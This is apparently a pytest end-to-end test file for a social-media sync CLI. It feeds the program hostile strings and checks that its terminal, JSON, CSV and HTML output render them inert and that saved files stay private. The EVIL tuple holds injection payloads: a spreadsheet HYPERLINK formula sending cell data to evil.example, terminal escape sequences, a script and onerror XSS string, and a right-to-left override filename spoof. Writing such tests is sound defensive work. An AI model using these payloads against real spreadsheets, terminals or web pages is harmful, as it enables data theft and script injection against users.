"""What strangers write comes out as text, and nothing that is kept can be read by other accounts."""

from __future__ import annotations

import csv
import io
import json
import re
import stat

import pytest
from e2e_program import program
from e2e_reading import rows

from socialsync_cli.sandbox import Behaviour, Sandbox

pytestmark = pytest.mark.thorough

EVIL = (
    '=HYPERLINK("https://evil.example?x="&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
    "\x1b]0;taken\x07\x1b[2J\x1b[31m", "\x9b31m", "[bold red]markup[/] [link=https://evil.example]x[/link]",
    "</script><script>document.title='taken'</script><img src=x onerror=alert(1)>", "\u202egnp.exe",
)  # fmt: skip
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ESCAPES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A program that has synced a page whose texts are all of the worst kind, under an umask that forbids nothing."""
    folder = tmp_path_factory.mktemp("strangers")
    with Sandbox(behaviour=Behaviour(settle_s=0.0, total_lag_s=0.0)) as world, program(folder, E2E_TOKEN="x") as one:
        real = world.state._run

        def begun(asked, given, options):
            run = real(asked, given, options)
            run.dataset._change = _worsen
            return run

        world.state._run = begun
        one.environ["E2E_TOKEN"] = "sandbox-strangers"
        one.prefix = ("sh", "-c", 'umask 000; exec "$0" "$@"')
        one.configure(world.url, {"acme": {"instagram": ["page1"]}}, sync="posts_per_page = 11\ncomments_per_post = 2")
        done = one.call("-vv", "run", "--all")
        assert done.code == 0, done.err
        assert not ESCAPES.search(done.out + done.err)
        yield one


def _worsen(item, number):
    worse = EVIL[number % len(EVIL)]
    changed = {
        name: worse for name in ("biography", "fullName", "businessCategoryName", "caption", "text") if name in item
    }
    return item | changed


def test_the_texts_are_stored_as_they_came(made):
    texts = {row["text"] for row in rows(made.database, "SELECT text FROM social_page_post")}
    assert len(texts & {text.strip() for text in EVIL}) + len(texts & set(EVIL)) >= 5


@pytest.mark.parametrize("asked", [["show", "page1"], ["status", "--pages"]], ids=lambda asked: asked[0])
@pytest.mark.parametrize("terminal", [{}, {"FORCE_COLOR": "1", "TERM": "xterm"}], ids=["plain", "colours"])
def test_the_terminal_shows_them_and_obeys_none(made, asked, terminal):
    done = made.call(*asked, **terminal)
    assert done.code == 0
    text = re.sub("\x1b\\[[0-9;]*m", "", done.out) if terminal else done.out
    assert not ESCAPES.search(text + done.err)
    assert "evil.example" not in "".join(re.findall("\x1b]8;[^\x1b]*", done.out))


def test_json_says_them_whole(made):
    done = made.call("show", "page1", "--json")
    assert not ESCAPES.search(done.out)
    assert json.loads(done.out)


@pytest.mark.parametrize("table", ["social_page", "social_page_post"])
def test_no_cell_of_a_csv_is_a_formula(made, table):
    done = made.call("export", table, "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(done.out)) for cell in row]
    assert [cell for cell in cells if re.match("[=+@\t\r-]", cell) and not re.fullmatch(r"-?[0-9.e-]+", cell)] == []
    assert not CONTROLS.search(done.out.replace("\r\n", "\n"))


def test_the_report_has_them_as_text(made):
    assert made.call("report", "--output", "report.html").code == 0
    html = (made.folder / "report.html").read_text()
    assert "<img src=x" not in html
    assert "<script>document.title" not in html


def test_nothing_that_is_kept_can_be_read_by_others(made):
    assert made.call("export", "social_page", "--output", "pages.csv").code == 0
    assert made.call("report", "--output", "again.html").code == 0
    (made.folder / "new").mkdir()
    made.start("--config", str(made.folder / "new" / "socialsync.toml"), "init").end()
    kept = {path: stat.S_IMODE(path.stat().st_mode) for path in made.folder.rglob("*") if path.is_file()}
    assert {".toml", ".gz", ".csv", ".html"} <= {path.suffix for path in kept}
    assert {str(path): oct(mode) for path, mode in kept.items() if mode & 0o077} == {}
